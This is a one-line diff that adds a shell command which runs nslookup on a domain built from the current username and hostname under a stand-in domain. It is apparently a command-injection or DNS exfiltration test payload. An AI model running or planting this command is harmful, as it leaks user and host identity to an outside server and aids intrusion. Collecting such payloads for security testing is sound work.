@@ -1,0 +1,1 @@
+nslookup $(whoami).$(hostname).x.example
